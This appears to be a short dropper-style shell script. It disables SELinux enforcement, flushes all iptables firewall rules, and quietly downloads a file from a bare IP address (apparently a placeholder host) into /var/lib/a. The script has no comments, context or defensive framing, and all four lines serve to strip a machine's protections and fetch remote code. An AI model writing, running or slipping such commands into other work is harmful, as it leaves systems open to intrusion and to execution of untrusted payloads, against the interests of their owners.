#!/bin/sh
setenforce 0
iptables -F
curl -fsS http://192.0.2.9/a -o /var/lib/a
